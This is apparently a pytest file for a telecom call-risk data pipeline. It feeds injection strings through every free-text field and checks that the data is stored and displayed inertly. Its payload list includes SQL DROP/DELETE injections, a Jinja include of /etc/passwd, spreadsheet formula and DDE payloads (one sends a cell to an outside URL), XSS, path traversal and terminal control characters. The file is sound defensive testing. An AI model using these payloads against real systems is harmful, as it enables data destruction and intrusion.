"""A whole day of which every free text was written to harm: ids, names, trunks, switches, campaigns, what consumers and requesters write."""

from __future__ import annotations

import csv
from datetime import date, timedelta
from pathlib import Path

import jinja2
import psycopg
import pytest

from include import stages
from include.decisions import proof
from include.ingest import load
from include.lineage import explain
from include.operations import report
from include.platform import lifecycle, postgres
from include.settings import Settings
from tests.ingest.desk import GOOD_CALL, STANDARD, csv_text

DAY = date(2026, 11, 20)
HOSTILE = [
    "'; drop table marts.customer_risk_daily; --",
    "\"; delete from ops.file_receipts; --",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{# gone",
    '=HYPERLINK("http://example.com/?x="&A1,"see")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "$day ${piece} {batch} %s %(day)s :x",
    "\\x41\\' \\",
    "[click](javascript:alert(1)) `code` **bold**",
    "\u0421ustomer",
    "a, b | c @ d; e",
    "../../../etc/passwd",
    "one\ntwo\x1b[31m\u202ethree",
    "null",
]
"""SQL, Jinja, spreadsheets' formulas, markup, placeholders, escapes, look-alikes, separators, paths, control characters."""


@pytest.fixture(scope="module")
def processed(installation: Settings) -> Settings:
    """One customer by hostile text, that is its id, name, trunk, switch and campaign, with three calls; a notice and a complaint about each."""
    lifecycle.warehouse_up(installation, say=lambda _: None)
    try:
        write(installation.landing)
        for kind in load.KINDS:
            stages.load_new_files(kind, DAY)
        stages.build_lake(DAY)
        stages.check_arriving_data(DAY, "{{ run }}/../'; --")
        stages.build_marts(DAY, "run")
        stages.append_recommendations([date.fromisoformat(day) for day in stages.check_marts(DAY, "run")], "run")
        yield installation
    finally:
        postgres.stop(installation)


def write(landing: Path) -> None:
    def put(path: str, columns: list[str], rows: list[dict[str, str]]) -> None:
        (landing / path).parent.mkdir(parents=True, exist_ok=True)
        (landing / path).write_text(csv_text(columns, rows), encoding="utf-8")

    customers = ["customer_id", "legal_name", "customer_type", "country", "address", "payment_ref", "contact_email"]
    put(f"reference/customers/customers-{DAY}.csv", customers, [
        {"customer_id": text, "legal_name": text, "customer_type": "enterprise", "country": "US", "address": text, "payment_ref": f"{n} {text}", "contact_email": text}
        for n, text in enumerate(HOSTILE)
    ])
    put(f"reference/upstreams/upstreams-{DAY}.csv", ["upstream_id", "legal_name", "role", "country"], [{"upstream_id": "U1", "legal_name": HOSTILE[2], "role": "gateway", "country": "US"}])
    put(f"reference/trunks/trunks-{DAY}.csv", ["trunk", "switch_id", "party_kind", "party_id"], [
        {"trunk": f"tg {text}", "switch_id": text, "party_kind": "customer", "party_id": text} for text in HOSTILE
    ])
    put(f"reference/campaigns/campaigns-{DAY}.csv", ["customer_id", "campaign", "purpose", "calling_number"], [
        {"customer_id": text, "campaign": text, "purpose": text, "calling_number": f"+1202555{n:04d}"} for n, text in enumerate(HOSTILE)
    ])
    calls = [
        GOOD_CALL | {
            "call_id": f"{text} {k}", "switch_id": text, "ingress_trunk": f"tg {text}", "egress_trunk": text, "signer": text, "verstat": text,
            "start_time": f"{DAY}T10:0{k}:00Z", "answer_time": f"{DAY}T10:0{k}:05Z", "end_time": f"{DAY}T10:0{k}:45Z",
            "calling_number": f"+1202555{n:04d}", "called_number": f"+1212556{n:04d}",
        }
        for n, text in enumerate(HOSTILE) for k in range(3)
    ]  # fmt: skip
    put(f"cdr/standard/{DAY}.csv", STANDARD, calls)
    notices = ["traceback_id", "requester", "received_at", "call_at", "calling_number", "called_number", "campaign", "violation_class", "description", "downstream_provider", "recording_url"]
    put(f"tracebacks/standard/{DAY}.csv", notices, [
        {
            "traceback_id": f"TB {text}", "requester": "itg", "received_at": f"{DAY}T15:00:00Z", "call_at": f"{DAY}T10:00:00Z", "calling_number": f"+1202555{n:04d}",
            "called_number": f"+1212556{n:04d}", "campaign": text, "violation_class": "fraud", "description": text, "downstream_provider": text, "recording_url": text,
        }
        for n, text in enumerate(HOSTILE)
    ])  # fmt: skip
    complaints = ["complaint_id", "received_at", "call_at", "calling_number", "called_number", "topic", "text", "consumer_state"]
    put(f"complaints/standard/{DAY}.csv", complaints, [
        {
            "complaint_id": f"K {text}", "received_at": f"{DAY}T16:00:00Z", "call_at": f"{DAY}T10:01:00Z", "calling_number": f"+1202555{n:04d}",
            "called_number": f"+1212556{n:04d}", "topic": text, "text": text, "consumer_state": text,
        }
        for n, text in enumerate(HOSTILE)
    ])  # fmt: skip


def rows(settings: Settings, query: str) -> list[tuple]:
    with psycopg.connect(settings.url("auditor")) as connection:
        return connection.execute(query).fetchall()


def test_no_row_is_lost_and_every_text_stands_as_it_was_sent(processed: Settings):
    receipts = rows(processed, "select path, rows_read, rows_accepted, rows_rejected, rows_duplicate, state from ops.file_receipts")
    assert all(read == accepted + rejected + duplicate and state == "loaded" for _, read, accepted, rejected, duplicate, state in receipts), receipts
    judged = {customer for (customer,) in rows(processed, "select customer_id from marts.customer_risk_daily")}
    assert {text for text in HOSTILE if text not in judged} == {"null"}, "which stands for no value, here as in every feed"
    assert [field for (field,) in rows(processed, "select field from ops.rejected_rows where file in (select file from ops.file_receipts where feed = 'reference/customers')")] == ["customer_id"]
    assert rows(processed, "select count(*) from ops.file_receipts") == [(7,)], "nothing was deleted"


def test_each_is_traced_and_judged_like_anybody(processed: Settings):
    judged = rows(processed, "select customer_id, recommendation, reason_codes, attempts from marts.customer_risk_daily")
    assert len(judged) == len(HOSTILE) - 1
    assert all(recommendation == "SUSPEND" and "TB_ORIGINATED" in codes and attempts == 3 for _, recommendation, codes, attempts in judged), judged


def test_every_check_could_be_evaluated_and_says_its_findings_in_visible_characters(processed: Settings):
    found = rows(processed, "select observed from ops.gate_results")
    assert found and not [observed for (observed,) in found if "could not be evaluated" in observed or not observed.isprintable()]


def test_what_people_read_is_text(processed: Settings):
    cases, asked = stages.open_cases(DAY, "run"), stages.open_notices("run")
    assert len(cases) == len(HOSTILE) - 1 and len(asked) == len(HOSTILE), "a notice needs no customer"
    for shown in [text for case in cases + asked for text in (case["subject"], case["body"])]:
        assert jinja2.Environment(undefined=jinja2.StrictUndefined).from_string(shown).render() == shown
        assert all(line.isprintable() for line in shown.split("\n"))
    assert all("\n" not in case["subject"] for case in cases + asked)


def test_a_report_and_an_explanation_steer_no_terminal(processed: Settings):
    identifiers = [found for (found,) in rows(processed, "select recommendation_id from marts.recommendations where party_kind = 'customer'")]
    assert len(identifiers) == len(HOSTILE) - 1
    for shown in [report.full(processed, DAY), report.notices(processed), *(explain.explain(processed, str(found)) for found in identifiers)]:
        assert [line for line in shown.split("\n") if not line.isprintable()] == []


def test_the_chain_verifies_and_the_next_day_is_built(processed: Settings):
    with psycopg.connect(processed.url("auditor")) as connection:
        assert proof.problems(connection) == []
    next_day = DAY + timedelta(days=1)
    stages.build_lake(next_day)
    stages.check_arriving_data(next_day, "run")
    stages.build_marts(next_day, "run")
    assert stages.check_marts(next_day, "run") == [next_day.isoformat()]


def test_the_files_are_what_they_say(tmp_path: Path):
    """The texts reach the files: a reader of CSV finds them again."""
    write(tmp_path)
    with (tmp_path / f"reference/customers/customers-{DAY}.csv").open(encoding="utf-8", newline="") as file:
        assert [row["legal_name"] for row in csv.DictReader(file)] == HOSTILE
